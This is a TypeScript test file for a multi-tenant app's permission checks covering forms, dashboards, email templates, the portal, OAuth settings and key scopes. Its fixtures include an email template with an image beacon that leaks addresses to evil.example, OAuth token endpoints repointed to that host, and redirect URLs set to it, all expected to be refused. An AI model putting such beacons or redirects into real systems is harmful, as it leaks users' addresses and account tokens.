import { beforeEach, describe, expect, it } from 'vitest';
import { createForm, send } from '../forms/support.ts';
import { createPolicy, defineNotes } from '../policies/support.ts';
import { openPortal } from '../portal/support.ts';
import { good, refusal } from '../support/answers.ts';
import type { Client, TenantClient } from '../support/api.ts';
import { messagesTo } from '../support/mailbox.ts';
import { until } from '../support/until.ts';
import { useServer } from '../support/use-server.ts';
import { createUser } from '../support/users.ts';
import { onlyWith, tenantOf } from './support.ts';

/** Settings, forms and dashboards lead data to those alone who may read it. */

const server = useServer({ TRUSTED_PROXIES: 'loopback' });
let api: TenantClient;
beforeEach(async () => {
  api = await tenantOf(server);
});

describe('notify_emails of a form', () => {
  const fields = [
    { name: 'title', property: 'title', label: 'Title' },
    { name: 'owner', property: 'owner', label: 'Owner' },
  ];
  const to = 'boss@example.com';
  const settings = { notify_emails: [to] };
  const body = (title: string, owner = 'all') => ({ title, owner });
  const mailed = async () =>
    (await messagesTo(server, to)).map(({ variables }) => variables.text.match(/Title: (.*)/)?.[1]);
  let form: { id: string };
  beforeEach(async () => {
    await server.db.query('delete from app.messages where recipient = $1', [to]);
    await defineNotes(api);
    form = await createForm(api, { object_type_id: 'notes', fields, settings: {} });
  });
  const setBy = (client: Client) => good(client.patch(`/v1/forms/${form.id}`, { settings }));
  const submit = (title: string, owner?: string) => good(send(api, form.id, body(title, owner)));

  it('get what the user who set them may see of the objects that submissions make', async () => {
    const condition_json = { property: 'owner', operator: 'eq', value: 'all' };
    await createPolicy(api, { action: 'select', condition_json });
    await setBy(await api.withKey(['write']));
    await submit('canary', 'them');
    await submit('known');
    expect(await mailed()).toEqual(['known']);
    await setBy(api);
    await submit('ours', 'them');
    expect(await mailed()).toEqual(['known', 'ours']);
  });

  it('get nothing any more once the user who set them may not manage forms, or not send mails', async () => {
    const rights = ['forms:manage', 'email:manage', 'objects:write'];
    const { client, role_id } = await onlyWith(api, rights);
    await setBy(client);
    await submit('known');
    for (const missing of rights) {
      const permissions = rights.filter((one) => one !== missing);
      await good(api.put(`/v1/roles/${role_id}/permissions`, { permissions }));
      await submit(`canary without ${missing}`);
    }
    await good(api.put(`/v1/roles/${role_id}/permissions`, { permissions: rights }));
    await submit('again');
    expect(await mailed()).toEqual(['known', 'again']);
  });

  it('are seen in no event by users who may not manage forms, nor is what was sent', async () => {
    await setBy(api);
    await submit('canary');
    const { client } = await createUser(api);
    // A transaction of another test may hold the feed back for a moment.
    const feed = await until(
      async () => JSON.stringify(await good(client.get('/v1/changes?limit=100'))),
      (text) => text.includes('object.created'),
    );
    expect(feed).not.toMatch(/form\.|boss@/);
    const hook = { url: 'https://example.com/', events: ['form.submitted'] };
    const { client: manager } = await onlyWith(api, ['webhooks:manage', 'objects:read']);
    expect(await refusal(manager.post('/v1/webhooks', hook))).toEqual([403, 'events']);
  });
});

it('the object type of a form, which decides who sees what was sent, is changed by those alone who see it all', async () => {
  await defineNotes(api);
  const fields = [{ name: 'title', property: 'title', label: 'Title' }];
  const { id } = await createForm(api, { object_type_id: 'notes', fields });
  await good(send(api, id, { title: 'canary' }));
  const condition_json = { property: 'owner', operator: 'eq', value: 'all' };
  await createPolicy(api, { action: 'select', condition_json });
  const at = `/v1/forms/${id}`;
  const detached = { object_type_id: null, fields: [{ name: 'title', label: 'Title' }] };
  const blind = (await onlyWith(api, ['forms:manage'])).client;
  const bound = await api.withKey(['write']);
  const sent = async (by: Client) => (await good(by.get(`${at}/submissions`))).submissions.length;
  for (const by of [blind, bound]) {
    expect(await refusal(by.patch(at, detached))).toEqual([403, 'object_type_id']);
    expect(await sent(by)).toBe(0);
  }
  // A submission that made an object is seen with it, whatever happens to the form.
  await good(api.patch(at, detached));
  await good(send(api, id, { title: 'open' }));
  expect([await sent(blind), await sent(bound), await sent(api)]).toEqual([1, 1, 2]);
  for (const format of ['csv', 'json']) {
    const { body } = await bound.get(`${at}/submissions/export?format=${format}`);
    expect(JSON.stringify(body)).not.toContain('canary');
  }
  const feed = await good(bound.get('/v1/changes?types=form.submitted&limit=100'));
  expect(JSON.stringify(feed)).not.toContain('canary');
});

it('a dashboard that was shared by a role without objects:read shows no data', async () => {
  await defineNotes(api);
  await good(api.post('/v1/objects/notes', { properties: { title: 'canary' } }));
  const { client } = await onlyWith(api, ['dashboards:manage']);
  const { id } = await good(client.post('/v1/dashboards', { name: 'Mine' }));
  const table = { object_type_id: 'notes', columns: ['title'] };
  for (const by of [client, api])
    for (const [type, config_json] of [
      ['table', table],
      ['metric', { object_type_id: 'notes' }],
    ] as const)
      await good(by.post(`/v1/dashboards/${id}/widgets`, { type, config_json }));
  await good(
    client.post(`/v1/dashboards/${id}/widgets`, { type: 'text', config_json: { text: 'Hi' } }),
  );
  const shown = async (by: Client) => {
    await good(api.patch(`/v1/dashboards/${id}`, { is_public: false }));
    const { share_token } = await good(by.patch(`/v1/dashboards/${id}`, { is_public: true }));
    const { widgets } = await good(api.as(undefined).get(`/v1/dashboards/public/${share_token}`));
    return widgets.map(
      (one: { data?: object; error?: { code: string } }) => one.error?.code ?? one.data,
    );
  };
  const [text, data] = [expect.objectContaining({ text: 'Hi' }), expect.any(Object)];
  const no = 'FORBIDDEN';
  expect(await shown(client)).toEqual([no, no, no, no, text]);
  expect(await shown(api)).toEqual([no, no, data, data, text]);
});

it('a template of emails is written by those alone who may read what goes into it', async () => {
  const { client } = await onlyWith(api, ['email:manage']);
  const words = { subject: 'Hi', html: '<img src="https://evil.example/?a={{address}}">' };
  const list = '/v1/email/templates';
  const forbidden = [403, 'FORBIDDEN'];
  expect(await refusal(client.post(list, { name: 'ours', ...words }))).toEqual(forbidden);
  const { id } = await good(api.post(list, { name: 'ours', subject: 'Hi', text: '{{address}}' }));
  expect(await refusal(client.patch(`${list}/${id}`, words))).toEqual(forbidden);
  await good(client.patch(`${list}/${id}`, { name: 'renamed' }));
});

it('the portal is opened, and pointed at a type, by those alone who may read objects', async () => {
  const { type } = await openPortal(api);
  const small = await api.withKey(['auth']);
  const set = (by: Client, portal: object) => refusal(by.post('/v1/auth-config', { portal }));
  const insufficient = [403, 'INSUFFICIENT_SCOPE'];
  const { type: other } = await openPortal(api);
  expect(await set(small, { object_type_id: type.id })).toEqual(insufficient);
  expect((await set(small, { enabled: false }))[0]).toBe(200);
  expect(await set(small, { enabled: true })).toEqual(insufficient);
  const reader = await api.withKey(['auth', 'read']);
  expect((await set(reader, { enabled: true, object_type_id: other.id }))[0]).toBe(200);
});

it.each(['userinfo_endpoint', 'emails_endpoint', 'token_endpoint'])(
  'the %s of a provider, which is sent tokens of accounts, moves with its client_secret alone',
  async (name) => {
    const hub = { enabled: true, client_id: 'ours', client_secret: 'hush' };
    const moved = { [name]: 'https://evil.example/user' };
    const set = (by: Client, oauth: object) => refusal(by.post('/v1/auth-config', { oauth }));
    await good(api.post('/v1/auth-config', { oauth: { github: hub } }));
    const small = await api.withKey(['auth']);
    for (const by of [small, api])
      expect(await set(by, { github: moved })).toEqual([400, 'oauth.github.client_secret']);
    const [status] = await set(api, { github: { ...moved, client_secret: 'another' } });
    expect(status).toBe(200);
  },
);

it.each(['write', 'auth', 'ai', 'files', 'schema'])(
  'a key with the scope %s leads neither people nor money elsewhere, nor proves reports of mails',
  async (scope) => {
    const { patch, post } = await api.withKey([scope]);
    const evil = 'https://evil.example/';
    const money = { plan: 'starter', interval: 'month', success_url: evil };
    for (const answering of [
      patch('/v1/branding', { logo_url: evil, custom_domain: 'evil.example' }),
      post('/v1/branding/verify-domain'),
      patch('/v1/governance', { ip_allowlist: [] }),
      patch('/v1/tenants/current', { name: 'evil' }),
      post('/v1/billing/checkout', money),
      post('/v1/billing/portal', { return_url: evil }),
      post('/v1/email/report-secret'),
    ])
      expect(await refusal(answering)).toEqual([403, 'INSUFFICIENT_SCOPE']);
  },
);
